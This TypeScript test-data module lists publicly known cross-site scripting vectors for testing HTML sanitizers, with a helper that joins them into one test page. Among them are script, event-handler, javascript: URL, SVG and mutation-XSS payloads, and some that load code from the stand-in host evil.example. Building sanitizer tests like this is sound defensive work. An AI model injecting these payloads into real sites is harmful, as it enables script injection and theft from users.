/**
 * Publicly known XSS vectors (cheat sheets of OWASP and PortSwigger, test cases of DOMPurify and HTML5 Security). `xss()`
 * stands for the attacker's code. Test data.
 */
export const xssVectors: readonly string[] = [
  // Scripts
  '<script>xss()</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>xss()</scr</script>ipt>',
  '<script/x>xss()</script\t\n>',
  '<script type="module">xss()</script>',
  '<<script>xss();//<</script>',
  '<script\x20type="text/javascript">xss();</script>',
  '<script src="data:text/javascript,xss()"></script>',
  // Event handlers
  '<img src=x onerror=xss()>',
  '<img src="x" OnErRoR="xss()">',
  '<img/src="x"/onerror=xss()>',
  '<img src=x:alert(alt) onerror=eval(src) alt=xss()>',
  '<IMG """><SCRIPT>xss()</SCRIPT>"\\>',
  '<img src=`x` onerror=`xss()`>',
  '<image src=x onerror=xss()>',
  '<body onload=xss()>',
  '<body onpageshow=xss()>',
  '<div onmouseover="xss()">x</div>',
  '<p onclick=xss()>x</p>',
  '<p onfocus=xss() tabindex=1 autofocus>x</p>',
  '<div onanimationstart=xss() style="animation:x 1s">x</div>',
  '<div onpointerrawupdate=xss()>x</div>',
  '<a onmouseenter=xss() href="#">x</a>',
  '<details open ontoggle=xss()><summary>x</summary></details>',
  '<marquee onstart=xss()>x</marquee>',
  '<input autofocus onfocus=xss()>',
  '<select autofocus onfocus=xss()></select>',
  '<textarea autofocus onfocus=xss()></textarea>',
  '<button popovertarget=x onclick=xss()>x</button><div popover id=x onbeforetoggle=xss()>x</div>',
  '<video onerror=xss()><source src=x></video>',
  '<video src=x onerror=xss()></video>',
  '<audio src=x onerror=xss()></audio>',
  '<audio src onloadstart=xss()></audio>',
  '<track default oncuechange=xss()>',
  '<keygen autofocus onfocus=xss()>',
  // URLs
  '<a href="javascript:xss()">x</a>',
  '<a href="JaVaScRiPt:xss()">x</a>',
  '<a href=" &#14; javascript:xss()">x</a>',
  '<a href="jav&#x09;ascript:xss()">x</a>',
  '<a href="jav&#x0A;ascript:xss()">x</a>',
  '<a href="java\0script:xss()">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;xss()">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;xss()">x</a>',
  '<a href="javascript&colon;xss()">x</a>',
  '<a href="vbscript:xss()">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<img src="javascript:xss()">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InhzcygpIi8+">',
  '<iframe src="javascript:xss()"></iframe>',
  '<iframe srcdoc="<script>xss()</script>"></iframe>',
  '<iframe src="https://evil.example/embed/"></iframe>',
  '<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>',
  '<iframe src="https://www.youtube-nocookie.com/embed/../../redirect" onload=xss()></iframe>',
  '<form action="javascript:xss()"><button>x</button></form>',
  '<form><button formaction="javascript:xss()">x</button></form>',
  '<isindex action="javascript:xss()" type=image>',
  '<input type="image" src=x onerror=xss()>',
  '<object data="javascript:xss()"></object>',
  '<object data="data:text/html,<script>xss()</script>"></object>',
  '<embed src="javascript:xss()">',
  '<applet code="x" onerror=xss()></applet>',
  '<base href="javascript:xss()//"><a href="x">x</a>',
  '<link rel=stylesheet href="javascript:xss()">',
  '<link rel=import href="data:text/html,<script>xss()</script>">',
  '<meta http-equiv="refresh" content="0;url=javascript:xss()">',
  '<meta http-equiv="refresh" content="0;url=data:text/html,<script>xss()</script>">',
  '<table background="javascript:xss()"><tr><td>x</td></tr></table>',
  '<blockquote cite="javascript:xss()">x</blockquote>',
  // Styles
  '<style>@import "javascript:xss()";</style>',
  '<style>*{x:expression(xss())}</style>',
  '<div style="background:url(javascript:xss())">x</div>',
  '<div style="width:expression(xss())">x</div>',
  '<p style="position:fixed;inset:0">x</p>',
  // SVG and MathML
  '<svg onload=xss()>',
  '<svg><script>xss()</script></svg>',
  '<svg><script xlink:href="data:text/javascript,xss()" /></svg>',
  '<svg><a xlink:href="javascript:xss()"><text y=20>x</text></a></svg>',
  '<svg><animate onbegin=xss() attributeName=x dur=1s></svg>',
  '<svg><a><animate attributeName=href values=javascript:xss() /><text y=20>x</text></a></svg>',
  '<svg><foreignObject><img src=x onerror=xss()></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>xss()</script></svg>#x"></svg>',
  '<svg><style><img src=x onerror=xss()></style></svg>',
  '<math href="javascript:xss()">x</math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=xss()></style></mglyph></table></mtext></math>',
  '<math><mi//xlink:href="data:x,<script>xss()</script>">',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=xss()></style></annotation-xml></math>',
  // Mutation XSS: markup that changes when it is parsed again
  '<noscript><p title="</noscript><img src=x onerror=xss()>">',
  '<noembed><img title="</noembed><img src=x onerror=xss()>"></noembed>',
  '<xmp><p title="</xmp><img src=x onerror=xss()>">',
  '<textarea><p title="</textarea><img src=x onerror=xss()>">',
  '<title><img title="</title><img src=x onerror=xss()>"></title>',
  '<template><img src=x onerror=xss()></template>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=xss() src>">',
  '<svg></p><style><a id="</style><img src=1 onerror=xss()>">',
  '<!--><img src=x onerror=xss()>-->',
  '<!-- --!><img src=x onerror=xss()> -->',
  '<![CDATA[><img src=x onerror=xss()>]]>',
  '<?xml-stylesheet href="javascript:xss()"?><img src=x onerror=xss()>',
  '<p title="x>"><img src=x onerror=xss()>',
  '<plaintext><img src=x onerror=xss()>',
  // DOM clobbering and custom elements
  '<form id=x><input name=attributes><input name=parentNode></form>',
  '<img name=getElementById><img name=cookie>',
  '<a id=location href="javascript:xss()">x</a><a id=location>x</a>',
  '<custom-element onclick=xss()>x</custom-element>',
  '<p is=x-evil onclick=xss()>x</p>',
];

/** Elements that vectors may leave open, innermost first; they are closed so that the next vector is parsed as markup. */
const OPEN =
  'title xmp textarea style script p noembed noscript template select object iframe mglyph form mtext math svg';
const CLOSERS = `"'>-->]]>${[...OPEN.split(' '), 'table'].map((name) => `</${name}>`).join('')}`;
/** `plaintext` cannot be closed, so it comes last. */
const SWALLOWS_THE_REST = '<plaintext>';

/** Text after each vector in {@link allVectorsHtml}; it shows that the vector did not hide the following text. */
export const getVectorMark = (index: number) => `διάνυσμα ${index} τέλος`;

/** All vectors in one text, each under a heading, for tests of pages with a single HTML field. */
export const allVectorsHtml = xssVectors
  .toSorted((one, other) => Number(one.startsWith(SWALLOWS_THE_REST)) - Number(other.startsWith(SWALLOWS_THE_REST)))
  .map((html, index) => `<h2>${index}</h2>${html}${CLOSERS}<p>${getVectorMark(index)}</p>`)
  .join('');
